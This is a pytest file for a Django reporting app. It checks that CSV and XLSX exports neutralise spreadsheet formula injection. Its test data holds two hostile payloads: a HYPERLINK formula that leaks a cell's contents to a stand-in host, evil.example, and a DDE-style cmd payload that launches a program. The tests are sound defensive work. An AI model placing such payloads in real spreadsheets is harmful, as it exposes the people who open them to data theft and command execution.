"""The standardized report and the global compilation, as CSV and XLSX, never carry a
user's text as a live formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.reporting.outputs_fixtures import publish, reported_cycle

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Kenya")'
SUMMARY = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def formulas_published(request, reporting_plan, kenya_coordinator):
    reporting_plan.title = TITLE
    reporting_plan.save(update_fields=["title"])
    return publish(reported_cycle(request), kenya_coordinator, summary=SUMMARY)


def url(report, name):
    cycle = report.cycle
    return reverse(f"reporting_outputs:{name}", args=[cycle.plan_id, cycle.pk, report.version])


def csv_values(response) -> list[str]:
    return [value for row in csv.reader(io.StringIO(response.content.decode())) for value in row]


def xlsx_cells(response) -> list:
    book = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_standard_report_csv_neutralises_formulas(client, formulas_published):
    values = csv_values(client.get(url(formulas_published, "standard_csv")))
    assert "'" + TITLE in values and "'" + SUMMARY in values
    assert TITLE not in values and SUMMARY not in values


def test_standard_report_xlsx_keeps_formulas_as_text(client, formulas_published):
    cells = xlsx_cells(client.get(url(formulas_published, "standard_xlsx")))
    marked = [c for c in cells if c.value in (TITLE, SUMMARY)]
    assert {c.value for c in marked} == {TITLE, SUMMARY}
    assert all(c.data_type == "s" and c.quotePrefix for c in marked)
    assert not [c for c in cells if c.data_type == "f"]
    assert 1800.5 in [c.value for c in cells]  # numbers stay numbers


def test_compilation_csv_and_xlsx_neutralise_formulas(client, formulas_published):
    response = client.get(reverse("reporting_outputs:compilation_csv", args=[2025]))
    values = csv_values(response)
    assert "'" + TITLE in values and TITLE not in values
    cells = xlsx_cells(client.get(reverse("reporting_outputs:compilation_xlsx", args=[2025])))
    (title,) = {c.value for c in cells if c.value == TITLE}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells if c.value == title)
    assert not [c for c in cells if c.data_type == "f"]
